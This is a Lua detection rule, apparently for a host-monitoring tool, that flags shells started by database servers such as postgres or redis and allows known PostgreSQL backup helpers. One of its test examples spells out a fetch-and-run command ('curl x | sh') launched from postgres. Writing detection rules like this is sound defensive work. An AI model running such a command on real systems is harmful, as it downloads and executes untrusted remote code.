local lists = require "moonwatch.lists"
local match = require "moonwatch.match"

--- What PostgreSQL itself has run by a shell: archiving and its own tools.
local own_helpers = { "pg_wal", "pg_ctl", "pg_basebackup", "archive_command", "wal-g", "pgbackrest", "barman" }

return {
  id = "shell_from_database",
  summary = "Shell started by a database server",
  why = "A database server that starts a shell runs code of whoever may speak SQL to it, " ..
    "or was given a module.",
  on = { "process.exec" },
  severity = "high",
  attack = { "T1190", "T1059.004" },
  message = "{process.parent.name} started {process.cmdline} as {process.user}",
  false_positives = {
    "archive_command and restore_command of PostgreSQL other than those named here",
  },
  match = function(event)
    local process = event.process
    if not match.named(process, lists.shells) or not match.named(process.parent, lists.databases) then
      return false
    end
    return not match.contains_any(process.cmdline, own_helpers)
  end,
  examples = {
    { expect = true, event = { process =
      { name = "sh", argv = { "sh", "-c", "curl x | sh" }, parent = { name = "postgres" } } } },
    { expect = true, event = { process = { name = "bash", parent = { name = "redis-server" } } } },
    { expect = false, event = { process =
      { name = "sh", argv = { "sh", "-c", "wal-g wal-push pg_wal/1" }, parent = { name = "postgres" } } } },
    { expect = false, event = { process =
      { name = "sh", argv = { "sh", "-c", "/usr/bin/postgres --version" }, parent = { name = "initdb" } } } },
  },
}
